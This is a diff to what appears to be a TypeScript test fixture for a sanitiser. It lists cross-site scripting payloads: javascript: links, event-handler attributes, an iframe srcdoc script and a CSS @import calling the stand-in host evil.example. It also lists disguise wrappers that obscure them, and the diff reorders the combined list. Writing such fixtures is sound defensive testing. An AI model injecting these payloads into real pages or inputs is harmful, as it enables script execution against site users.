@@ -7,7 +7,7 @@ export const ACTS: readonly string[] = [
   '[x](javascript:window.hit=1)',
   '![x](x" onerror="window.hit=1)',
   '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
-  '<style>@import "https://evil.example"</style>',
+  '<style>@import "https://evil.example?hit=1"</style>',
   '<https://a.example" onmouseover="window.hit=1>',
   '<details open ontoggle=window.hit=1>',
 ];
@@ -23,4 +23,5 @@ export const DISGUISES: readonly ((act: string) => string)[] = [
   (act) => `[fen]${act}[/fen]`,
   (act) => `${act.replaceAll('<', '&lt;').replaceAll('script', 'scr\u200bipt')}${act}`,
 ];
-export const PAYLOADS: readonly string[] = ACTS.flatMap((act) => DISGUISES.map((disguise) => disguise(act)));
+/** The plain ways first: where a field is written once, they are what it holds. */
+export const PAYLOADS: readonly string[] = DISGUISES.flatMap((disguise) => ACTS.map((act) => disguise(act)));
